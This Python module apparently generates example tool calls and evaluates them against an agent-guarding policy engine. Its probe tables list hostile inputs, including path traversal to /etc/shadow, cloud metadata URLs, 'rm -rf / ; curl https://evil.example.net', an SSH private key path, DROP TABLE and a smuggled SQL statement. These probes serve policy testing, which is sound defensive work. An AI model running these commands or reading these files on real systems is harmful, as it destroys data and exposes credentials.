"""Example calls for a tool, each with what its recommended Intercept policy decides.

The calls are made from the tool's input schema: a typical call, a call with
every parameter, one call that breaks each argument rule (a path out of
the root, a URL to the cloud metadata address, `DROP TABLE`, a negative
amount...), and one without an argument the tool makes optional but a
condition checks (Intercept fails a condition on a missing argument, so the
policy makes it required: the page shows it).  The decisions come from the
policy evaluator (:mod:`site_builder.policy.simulate`), which follows
Intercept's engine; a counter is reported as counted, not evaluated.
"""

from __future__ import annotations

import operator
from dataclasses import dataclass, field
from typing import Any, Iterable, Mapping

from ..content.overrides import ArgCondition
from ..derive.parameters import is_list, parameter_kinds, schema_properties
from ..derive.words import name_words
from .arguments import AMOUNT_CAP, RELATIVE_PATH_PATTERN, ROOT_PLACEHOLDER, ArgumentRule
from .simulate import compiled_regex, evaluate
from .sql import READ_SQL_PATTERN, SINGLE_SQL_PATTERN

MIN_EXAMPLES, MAX_EXAMPLES = 3, 6
GOOD_VALUES = {
    "path": f"{ROOT_PLACEHOLDER}/notes/todo.md",
    "url": "https://docs.example.com/guide",
    "host": "db.example.com",
    "command": "ls -la",
    "sql": "SELECT id, name FROM customers LIMIT 10",
    "amount": 500,
}
SQL_SAMPLES = ("SELECT id, name FROM customers LIMIT 10", "INSERT INTO notes (id, done) VALUES (42, 0)",
               "UPDATE notes SET done = 1 WHERE id = 42", "CREATE TABLE notes (id INTEGER PRIMARY KEY, title TEXT)")
WRITE_SQL_PROBES = (("DROP TABLE customers", "a destructive statement"),
                    ("DELETE FROM customers", "a DELETE, which the profile refuses"),
                    ("INSERT INTO notes (id) VALUES (1) DELETE FROM customers",
                     "a second statement without a ; (SQL Server runs both)"))
BAD_VALUES: dict[str, tuple[tuple[Any, str], ...]] = {
    "path": ((f"{ROOT_PLACEHOLDER}/../../etc/passwd", "climbs out of the root"), ("/etc/shadow", "outside the root")),
    "url": (("http://169.254.169.254/latest/meta-data/", "the cloud metadata address"),
            ("https://metadata.google.internal/computeMetadata/v1/", "the cloud metadata name")),
    "host": (("169.254.169.254", "the cloud metadata address"), ("metadata.google.internal", "the cloud metadata name")),
    "callback": (("https://collector.example.net/hook", "results sent to an address the agent chose"),),
    "command": (("rm -rf / ; curl https://evil.example.net", "a destructive command chained to a download"),),
    "shell": (("/tmp/payload", "a program the agent chose to run the command"),),
    "sql": (("DROP TABLE customers", "a destructive statement"),
            ("SELECT * INTO customers_copy FROM customers", "a SELECT that writes a table"),
            ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "a SELECT that ends every other session")),
    "amount": ((-500, "a negative amount, which would lower the counter"), (AMOUNT_CAP * 10, "over the per-call cap")),
    "flag": ((True, "forcing past safeguards"),),
    "paths": ((["/home/user/.ssh/id_rsa"], "a private key in the list"),),
    "urls": ((["http://169.254.169.254/latest/meta-data/"], "the cloud metadata address in the list"),),
    "commands": ((["find", ".", "-delete"], "a command that deletes every file under the folder"),),
}


@dataclass(frozen=True)
class Reviewed:
    """What a reviewer's conditions (a tool's own policy) say of its arguments."""

    conditioned: frozenset[str] = frozenset()  # the arguments they check
    allowed: Mapping[str, Any] = field(default_factory=dict)  # a value each `in` condition lists
    absent: frozenset[str] = frozenset()  # those `exists: false` holds absent
    within: Mapping[str, float] = field(default_factory=dict)  # a number inside each one's bounds (gt, lte...)
    patterns: Mapping[str, tuple[str, ...]] = field(default_factory=dict)  # the regexes each must match

    @classmethod
    def of(cls, conditions: Iterable[ArgCondition]) -> Reviewed:
        by_name: dict[str, list[ArgCondition]] = {}
        for condition in conditions:
            by_name.setdefault(condition.path.removeprefix("args."), []).append(condition)
        allowed = {name: next(c.value[0] for c in mine if c.op == "in" and isinstance(c.value, list) and c.value)
                   for name, mine in by_name.items()
                   if any(c.op == "in" and isinstance(c.value, list) and c.value for c in mine)}
        within = {name: number for name, mine in by_name.items()
                  if (number := _inside([c for c in mine if c.op in BOUNDS and _is_number(c.value)])) is not None}
        absent = frozenset(name for name, mine in by_name.items() if any(c.op == "exists" and not c.value for c in mine))
        patterns = {name: tuple(str(c.value) for c in mine if c.op == "regex")
                    for name, mine in by_name.items() if any(c.op == "regex" for c in mine)}
        return cls(frozenset(by_name), allowed, absent, within, patterns)


BOUNDS = {"gt": operator.gt, "gte": operator.ge, "lt": operator.lt, "lte": operator.le}


def _is_number(value: Any) -> bool:
    return isinstance(value, (int, float)) and not isinstance(value, bool)


def _inside(bounds: list[ArgCondition]) -> float | None:
    """A number the bounds allow, near GOOD_VALUES' amount (None: no bounds, or none fits)."""
    if not bounds:
        return None
    low = max([c.value for c in bounds if c.op in ("gt", "gte")], default=None)
    high = min([c.value for c in bounds if c.op in ("lt", "lte")], default=None)
    candidates = [GOOD_VALUES["amount"], *([low + 1, low] if low is not None else []),
                  *([high] if high is not None else []), *([(low + high) / 2] if low is not None and high is not None else [])]
    fits = [value for value in candidates if all(_holds(value, c.op, c.value) for c in bounds)]
    return fits[0] if fits else None


def _holds(value: float, op: str, bound: float) -> bool:
    return bool(BOUNDS[op](value, bound))


@dataclass(frozen=True)
class Example:
    arguments: dict[str, Any]
    decision: str  # allow | deny
    rule: str
    message: str
    counted: tuple[str, ...]
    purpose: str  # why this call is shown

    def as_check(self) -> dict[str, Any]:
        return {"arguments": self.arguments, "decision": self.decision, "rule": self.rule}


def _sample(spec: Any, kind: str | None, rule: ArgumentRule | None = None) -> Any:
    if rule is not None and rule.condition.op == "regex" and rule.condition.value == RELATIVE_PATH_PATTERN:
        return ["notes/todo.md"] if is_list(spec) else "notes/todo.md"  # the rule wants a relative path
    if kind == "sql" and rule is not None and rule.condition.op == "regex":  # a statement of the kind it allows
        return _first_accepted(SQL_SAMPLES, (str(rule.condition.value),), SQL_SAMPLES[0])
    if kind in GOOD_VALUES:
        if is_list(spec):  # a command as its words: ["ls", "-la"]
            return str(GOOD_VALUES[kind]).split() if kind == "command" else [GOOD_VALUES[kind]]
        return GOOD_VALUES[kind]
    if not isinstance(spec, dict):
        return "example"
    enum = spec.get("enum")
    if isinstance(enum, list) and enum:
        return enum[0]
    default = spec.get("default")
    if default is not None and not isinstance(default, (dict, list)):
        return default
    kinds = spec.get("type")
    kind_name = kinds[0] if isinstance(kinds, list) and kinds else kinds
    return {"integer": 1, "number": 1, "boolean": False, "array": [], "object": {}}.get(str(kind_name), "example")


def _first_accepted(candidates: Iterable[Any], patterns: tuple[str, ...], otherwise: Any) -> Any:
    """The first candidate every pattern accepts (as Intercept's RE2 would), else `otherwise`."""
    compiled = [compiled_regex(pattern) for pattern in patterns]
    return next((candidate for candidate in candidates
                 if all(not isinstance(c, str) and c.search(str(candidate)) for c in compiled)), otherwise)


def _typical(properties: dict[str, Any], required_names: set[str], kinds: Mapping[str, str | None],
             ruled: Mapping[str, ArgumentRule], reviewed: Reviewed, held_absent: frozenset[str]) -> dict[str, Any]:
    """A call that gives what the tool requires and what a rule checks, with values the rules allow."""
    typical: dict[str, Any] = {}
    for name, spec in list(properties.items())[:50]:
        rule = ruled.get(str(name))
        if rule is not None and rule.condition.op == "in":
            typical[str(name)] = rule.condition.value[0]
        elif str(name) in held_absent and str(name) not in required_names:
            continue  # held absent (a required one is given: the typical call shows what the policy does to it)
        elif str(name) in reviewed.allowed:  # a reviewer's `in` condition: one of the values it allows
            typical[str(name)] = reviewed.allowed[str(name)]
        elif str(name) in reviewed.within:
            typical[str(name)] = reviewed.within[str(name)]
        elif str(name) in reviewed.patterns:  # a reviewer's regex: a sample it accepts, if one of ours does
            sample = _sample(spec, kinds[str(name)], rule)  # or a plainer value the reviewer's regex accepts
            typical[str(name)] = _first_accepted((sample, str(sample).rsplit("/", 1)[-1], "example"),
                                                 reviewed.patterns[str(name)], sample)
        elif str(name) in required_names or rule is not None or str(name) in reviewed.conditioned:
            typical[str(name)] = _sample(spec, kinds[str(name)], rule)
    for name in sorted(reviewed.conditioned - set(properties) - reviewed.absent):  # checked; no schema says it
        if name in reviewed.allowed or name in reviewed.within:
            typical[name] = reviewed.allowed[name] if name in reviewed.allowed else reviewed.within[name]
    return typical


def _calls(schema: dict[str, Any] | None, rules: tuple[ArgumentRule, ...], description: str, reviewed: Reviewed
           ) -> list[tuple[dict[str, Any], str]]:
    conditioned, allowed, absent = reviewed.conditioned, reviewed.allowed, reviewed.absent
    properties = schema_properties(schema)
    required = (schema or {}).get("required")
    required_names = {str(name) for name in required} if isinstance(required, list) else set()
    kinds = parameter_kinds(schema, description)
    ruled: dict[str, ArgumentRule] = {}
    for rule in rules:  # an argument's first rule: for SQL, the statement it must be
        ruled.setdefault(rule.parameter, rule)
    held_absent = absent | {name for name, rule in ruled.items() if rule.condition.op == "exists"}
    typical = _typical(properties, required_names, kinds, ruled, reviewed, held_absent)
    calls = [(typical, "a typical call")]
    made_required = [name for name in typical if name in properties and name not in required_names
                     and name not in held_absent and (name in ruled or name in conditioned)]
    if made_required:  # Intercept fails a condition on a missing argument: show what that does to the tool
        calls.append(({key: value for key, value in typical.items() if key != made_required[0]},
                      f"without {made_required[0]}, which the tool makes optional"))
    for name, rule in ruled.items():
        if rule.check == "absent":  # an optional argument the policy holds absent: given at all, it is refused
            calls.append(({**typical, name: _sample(properties.get(name), rule.kind)},
                          f"{name} given, which the policy holds absent"))
            continue
        for value, why in _bad_values(rule, properties.get(name)):
            calls.append(({**typical, name: value}, f"{name}: {why}"))
    for name in sorted(conditioned - set(ruled)):  # a reviewer's conditions: the same probes by the argument's kind
        if name in absent:
            calls.append(({**typical, name: _sample(properties.get(name), kinds.get(name))},
                          f"{name} given, which the policy holds absent"))
            continue
        for value, why in BAD_VALUES.get(kinds.get(name) or "", ()):
            calls.append(({**typical, name: [value] if is_list(properties.get(name)) else value}, f"{name}: {why}"))
        if name in allowed and not BAD_VALUES.get(kinds.get(name) or ""):
            calls.append(({**typical, name: _unlisted(name, allowed[name])}, f"{name}: a value the policy does not list"))
    full = {str(name): _sample(spec, kinds[str(name)], ruled.get(str(name)))
            for name, spec in list(properties.items())[:50] if str(name) not in held_absent}
    if full != typical:
        calls.append(({**full, **typical}, "every parameter given"))
    if required_names and typical:
        calls.append(({}, "no arguments at all"))
    return calls


def _unlisted(name: str, listed: Any) -> Any:
    """A value outside a reviewer's `in` list: for a kind of object, the kind that holds secrets."""
    if set(name_words(name)) & {"kind", "type"} and isinstance(listed, str):
        return "Secret" if listed[:1].isupper() else "secrets"
    return "other"


def _bad_values(rule: ArgumentRule, spec: Any) -> tuple[tuple[Any, str], ...]:
    if rule.kind == "action":
        allowed = rule.condition.value
        enum = spec.get("enum") if isinstance(spec, dict) else None
        refused = [value for value in (enum or []) if value not in allowed]
        return ((refused[0], "a value the profile does not allow"),) if refused else ()
    if rule.kind == "sql" and rule.condition.value not in (READ_SQL_PATTERN, SINGLE_SQL_PATTERN):
        return WRITE_SQL_PROBES  # a tool for writes: what it may not write
    return BAD_VALUES.get(rule.kind, ())


def examples_for(policy: dict[str, Any], tool: str, schema: dict[str, Any] | None,
                 rules: tuple[ArgumentRule, ...], description: str = "", reviewed: Reviewed = Reviewed()
                 ) -> tuple[Example, ...]:
    """Three to six calls of `tool` with the decisions `policy` gives them; `reviewed`: what a reviewer's
    conditions check besides `rules` (the typical call meets them)."""
    calls = _calls(schema, rules, description, reviewed)
    if len(calls) < MIN_EXAMPLES:
        calls.append(({**calls[0][0], "unexpected": "extra"}, "an argument the tool does not declare"))
    if len(calls) < MIN_EXAMPLES:
        calls.append((dict(calls[0][0]), "the same call again (counters only count)"))
    results = []
    for arguments, purpose in calls[:MAX_EXAMPLES]:
        decision = evaluate(policy, tool, arguments)
        results.append(Example(arguments, decision.decision, decision.rule, decision.message, decision.counted, purpose))
    return tuple(results)
